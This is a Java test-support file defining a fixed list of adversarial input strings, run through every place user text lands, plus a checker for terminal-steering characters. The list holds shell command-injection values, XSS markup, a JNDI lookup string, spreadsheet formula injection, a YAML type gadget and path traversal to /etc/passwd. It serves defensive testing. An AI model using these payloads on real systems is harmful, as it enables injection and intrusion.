package host.spore.spawn.testevents;

import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

/**
 * A text of a kind that has broken systems of this sort: in shells, terminals, markup, expressions, tables, paths. Every
 * test of a place where a user's text ends up drives all of them through it, so a kind that is added here is tried
 * everywhere.
 *
 * @param kind what it is made to break, for whoever reads a test's report
 * @param text may have anything in it, lone surrogates included
 */
public record Hostile(String kind, String text) {
    /** A file that the shell texts make, in the folder they are run in. Where it appears, a text has become a command. */
    public static final String HARM = "harm";

    private static final int LONG = 100_000;

    private static final List<Hostile> ALL = List.of(
            // Shells
            new Hostile("single quote", "'; touch harm; '"),
            new Hostile("double quote", "\"; touch harm; \""),
            new Hostile("command substitution", "$(touch harm)"),
            new Hostile("backticks", "`touch harm`"),
            new Hostile("expansions", "${HOME} $((1+1)) ~ * ? [a-z] {a,b}"),
            new Hostile("second line", "a\ntouch harm"),
            new Hostile("here-document's end", "\nEOF\ntouch harm\n"),
            new Hostile("separators", "a; touch harm & touch harm | touch harm"),
            new Hostile("redirection", "a > harm"),
            new Hostile("option", "--help"),
            new Hostile("backslash at the end", "a\\"),
            new Hostile("printf directives", "%s%n%d\\0\\x41"),
            // Lines, logs and terminals
            new Hostile("carriage return", "done\rfail"),
            new Hostile("header", "a\r\nset-cookie: x=1"),
            new Hostile("forged log line", "a\n{\"level\":\"INFO\",\"message\":\"all is well\"}"),
            new Hostile("colours and title", "\u001b[31mred\u001b]0;title\u0007"),
            new Hostile("control sequence in one byte", "\u009b31mred"),
            new Hostile("backspaces", "safe\b\b\b\bharm\u007f"),
            new Hostile("tab", "a\tb"),
            new Hostile("NUL", "a\0b"),
            new Hostile("override of direction", "abc\u202egpj.exe"),
            new Hostile("isolate", "\u2066abc\u2069"),
            new Hostile("marks of direction", "a\u200eb\u200fc\u061cd"),
            new Hostile("no width", "a\u200bb\ufeffc"),
            new Hostile("line separators", "a\u2028b\u2029c\u0085d"),
            // Expressions and templates
            new Hostile("expression", "{% $states.context.Execution.Id %}"),
            new Hostile("expression in an expression", "' & $states.input & '"),
            new Hostile("expression that is not closed", "{% $states.input"),
            new Hostile("evaluation", "{% $eval(\"1+1\") %}"),
            new Hostile("JSONata", "$states.input"),
            new Hostile("path", "$.command"),
            new Hostile("path of the context", "$$.Execution.Input"),
            new Hostile("intrinsic function", "States.Format('{}', $.command)"),
            new Hostile("substitution", "${RunFunctionArn}"),
            new Hostile("placeholder", "@SPAWN_BUS_NAME@"),
            new Hostile("template", "{{ 7*7 }} #{7*7} <%= 7*7 %>"),
            new Hostile("lookup", "${jndi:ldap://example.invalid/a}"),
            // Markup and messages
            new Hostile("script", "<script>alert(1)</script>"),
            new Hostile("attribute", "\"><img src=x onerror=alert(1)>"),
            new Hostile("entities", "&lt;&amp;&#x41;&bomb;"),
            new Hostile("end of a section", "]]>-->"),
            new Hostile("mention of all", "<!channel> <!here> <@U012AB3CD>"),
            new Hostile("link under another name", "<https://example.invalid|sign in>"),
            new Hostile("Markdown", "[x](javascript:alert(1)) **b** _i_"),
            new Hostile("Mermaid", "\"] --> x[\"y"),
            new Hostile("Graphviz", "\"]; x [label=\"y"),
            // Tables and files of others
            new Hostile("formula", "=cmd|' /C calc'!A0"),
            new Hostile("formula of a plus", "+1+1"),
            new Hostile("formula of an at", "@SUM(1+1)*cmd"),
            new Hostile("cells", "a,b\";\"c"),
            new Hostile("JSON", "\"}],\"x\":[{\"y\":\""),
            new Hostile("escaped JSON", "\\u0041\\\""),
            new Hostile("YAML", "a: b\n- c\n# d"),
            new Hostile("YAML's types", "!!java.lang.Runtime {}"),
            new Hostile("YAML's alias", "*a"),
            new Hostile("condition", ":v OR attribute_not_exists(#n)"),
            // Places and names
            new Hostile("parent folders", "../../etc/passwd"),
            new Hostile("parent", ".."),
            new Hostile("itself", "."),
            new Hostile("whole path", "/etc/passwd"),
            new Hostile("encoded path", "%2e%2e%2f%00"),
            new Hostile("wildcards of policies", "*"),
            new Hostile("variable of policies", "${aws:userid}"),
            new Hostile("prototype", "__proto__"),
            new Hostile("two labels", "a.example.invalid"),
            new Hostile("look-alike", "\u0430dmin"),
            new Hostile("digits of another script", "\uff11\uff12"),
            new Hostile("grows in lower case", "\u0130\u0130"),
            // Lengths and encodings
            new Hostile("nothing", ""),
            new Hostile("blanks", "   "),
            new Hostile("no-break space", "\u00a0"),
            new Hostile("two bytes", "\u00fc\u00f1\u00e7"),
            new Hostile("three bytes", "\u20ac\u6f22\u5b57"),
            new Hostile("four bytes", "\ud83e\uddec\ud835\udcb3"),
            new Hostile("combined", "e\u0301o\u0308" + "\u0335".repeat(40)),
            new Hostile("first half of a pair", "a\ud800"),
            new Hostile("second half of a pair", "\udc00b"),
            new Hostile("halves in the wrong order", "\udc00\ud800"),
            new Hostile("very long", "x".repeat(LONG)),
            new Hostile("very long in four bytes", "\ud83e\uddec".repeat(LONG / 4)));

    /** All of them. */
    public static List<Hostile> all() {
        return ALL;
    }

    /** Those that a process can be given and a file can hold: without NUL, and with a form in UTF-8. */
    public static List<Hostile> texts() {
        return ALL.stream()
                .filter(hostile -> hostile.text().indexOf('\0') < 0 && !hostile.isBroken())
                .toList();
    }

    /** Whether it has half of a character, which has no bytes. */
    public boolean isBroken() {
        return text.codePoints().anyMatch(Hostile::isHalf);
    }

    /**
     * What in this text could steer a terminal, or pass one line for two; empty when nothing could.
     *
     * @param out what somebody is going to read, of which line feeds are a part
     */
    public static Optional<String> steering(String out) {
        List<String> found = new ArrayList<>();
        out.codePoints()
                .filter(point -> point != '\n' && isSteering(point))
                .distinct()
                .forEach(point -> found.add("U+%04X".formatted(point)));
        return found.isEmpty() ? Optional.empty() : Optional.of(String.join(" ", found));
    }

    private static boolean isSteering(int point) {
        return Character.isISOControl(point)
                || isHalf(point)
                || point == 0x61c
                || (point >= 0x200e && point <= 0x200f)
                || (point >= 0x2028 && point <= 0x202e)
                || (point >= 0x2066 && point <= 0x2069);
    }

    private static boolean isHalf(int point) {
        return point >= Character.MIN_SURROGATE && point <= Character.MAX_SURROGATE;
    }

    /** Its kind alone: the text would steer whoever reads a test's report. */
    @Override
    public String toString() {
        return kind;
    }
}
